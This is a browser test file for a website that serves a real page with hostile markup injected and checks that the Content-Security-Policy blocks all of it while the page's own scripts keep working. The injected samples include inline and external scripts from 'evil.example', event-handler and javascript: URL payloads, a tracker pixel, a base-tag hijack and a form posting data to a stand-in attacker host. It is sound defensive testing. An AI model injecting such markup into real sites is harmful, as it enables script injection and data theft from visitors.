/**
 * Defence in depth: if active content ever got past the sanitiser onto a built page, the page's
 * own Content-Security-Policy stops it. A copy of a real page is served with hostile markup
 * written into it; none of it may run, load or submit, while the page's own scripts still work.
 */
import { describe, expect, it } from 'vitest';
import { builtSite } from '../../helpers/built-site.ts';
import { browserSession } from '../chromium.ts';
import { cspViolations, recordCspViolations } from '../csp-violations.ts';

declare global {
	interface Window {
		__ran?: string[];
	}
}

/** Each tries to run code, load from elsewhere or restyle the page; `window.__ran` records any that works. */
const INJECTED = `
<script>(window.__ran = window.__ran || []).push('inline script')</script>
<script src="https://evil.example/steal.js"></script>
<img src="images/does-not-exist.png" onerror="(window.__ran = window.__ran || []).push('onerror')" alt="">
<button type="button" id="injected-button" onclick="(window.__ran = window.__ran || []).push('onclick')">点我</button>
<a id="injected-link" href="javascript:(window.__ran = window.__ran || []).push('javascript: URL')">链接</a>
<img src="https://tracker.example/pixel.gif" alt="">
<style>main { display: none !important; }</style>
<object data="https://evil.example/x.swf"></object>
<form id="injected-form" action="https://evil.example/collect" method="post"><input name="phone" value="1"></form>
`;

describe('a built page with hostile markup written into it', () => {
	const site = builtSite('root');
	const session = browserSession(site);

	it('runs, loads and submits none of it, and reports each to the policy', async () => {
		const context = await session.browser.newContext();
		await recordCspViolations(context);
		// Chromium reports a request the policy stopped as failed, with the reason `csp`, before it leaves the browser.
		const leftTheSite: string[] = [];
		context.on('requestfinished', (request) => {
			if (!request.url().startsWith(session.url)) leftTheSite.push(request.url());
		});
		const blocked: string[] = [];
		context.on('requestfailed', (request) => {
			if (request.failure()?.errorText === 'csp') blocked.push(request.url());
		});
		const target = `${session.url}initiatives/qiongjiang-shengtai-zoulang/`;
		await context.route(target, async (route) => {
			const response = await route.fetch();
			const html = (await response.text()).replace('<main', `${INJECTED}<base href="https://evil.example/"><main`);
			await route.fulfill({ response, body: html });
		});
		try {
			const page = await context.newPage();
			await page.goto(target, { waitUntil: 'networkidle' });
			// The page's own scripts still run: the reading aids open.
			await page.getByRole('button', { name: '长者模式' }).click();
			await expect.poll(() => page.locator('#reading-aids-panel').isVisible()).toBe(true);
			await page.locator('#injected-button').click();
			await page.locator('#injected-link').click();
			await page.evaluate(() => (document.getElementById('injected-form') as HTMLFormElement).submit());
			await page.waitForTimeout(300);

			expect(await page.evaluate(() => window.__ran ?? [])).toEqual([]);
			expect(leftTheSite).toEqual([]);
			expect(blocked.sort()).toEqual(['https://evil.example/steal.js', 'https://tracker.example/pixel.gif']);
			expect(page.url()).toBe(target);
			// The injected stylesheet is not applied: the page's content is still shown.
			expect(await page.locator('main').isVisible()).toBe(true);
			// Links still resolve against the page, not the injected <base>.
			expect(await page.evaluate(() => document.baseURI)).toBe(target);

			const directives = new Set((await cspViolations(page)).map((violation) => violation.split(' ')[0]));
			for (const directive of ['script-src-elem', 'script-src-attr', 'style-src-elem', 'img-src', 'object-src', 'base-uri', 'form-action']) {
				expect(directives, directive).toContain(directive);
			}
		} finally {
			await context.close();
		}
	});
});
